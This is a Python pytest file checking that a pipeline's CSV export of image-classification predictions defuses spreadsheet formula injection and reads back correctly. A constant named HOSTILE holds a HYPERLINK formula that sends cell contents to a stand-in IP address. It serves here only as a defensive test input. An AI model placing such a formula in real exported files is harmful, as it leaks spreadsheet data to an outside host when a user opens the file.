"""What a spreadsheet makes of predictions.csv."""

import csv
import io

import pyarrow as pa
import pytest

from pipeline import results, spreadsheet

HOSTILE = '=HYPERLINK("http://192.0.2.1/?"&A1,"a")/0.jpg'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("Kiwi/0_1.jpg", "Kiwi/0_1.jpg"),
        ("a=b", "a=b"),
        ("'quoted'", "'quoted'"),
        ("", ""),
        (None, None),
        (-0.5, -0.5),
        *((text, f"'{text}") for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "'=1+1", "''-1")),
    ],
)
def test_a_cell_that_would_be_run_is_text(cell, written):
    assert spreadsheet.harmless(cell) == written


def test_the_file_has_no_formula_and_is_read_back(tmp_path):
    rows = [
        {"path": HOSTILE, "label": "-1", "split": "test", "prediction": "+1", "probability": 0.5},
        {"path": 'a,"b"\u2028.jpg', "label": "é", "split": "train", "prediction": None, "probability": None},
    ]
    table = pa.Table.from_pylist(rows, schema=results.PREDICTIONS_SCHEMA)
    results.write_table(f"{tmp_path}/predictions/0.parquet", table)
    assert spreadsheet.write_csv(f"{tmp_path}/predictions", f"{tmp_path}/predictions.csv") == 2
    text = (tmp_path / "predictions.csv").read_text("utf-8-sig")
    first, second = csv.DictReader(io.StringIO(text, newline=""))
    assert (first["path"], first["label"], first["prediction"]) == (f"'{HOSTILE}", "'-1", "'+1")
    assert (second["path"], second["label"], second["prediction"]) == ('a,"b"\u2028.jpg', "é", "")


def test_many_files_follow_each_other_in_the_order_of_their_names(tmp_path):
    for number in range(3 * spreadsheet.READERS + 1):
        row = {"path": f"{number}.jpg", "label": "a", "split": "test", "prediction": "a", "probability": 1.0}
        table = pa.Table.from_pylist([row], schema=results.PREDICTIONS_SCHEMA)
        results.write_table(f"{tmp_path}/predictions/{number:03d}.parquet", table)
    assert spreadsheet.write_csv(f"{tmp_path}/predictions", f"{tmp_path}/predictions.csv") == number + 1
    rows = list(csv.DictReader(io.StringIO((tmp_path / "predictions.csv").read_text("utf-8-sig"), newline="")))
    assert [row["path"] for row in rows] == [f"{of}.jpg" for of in range(number + 1)]
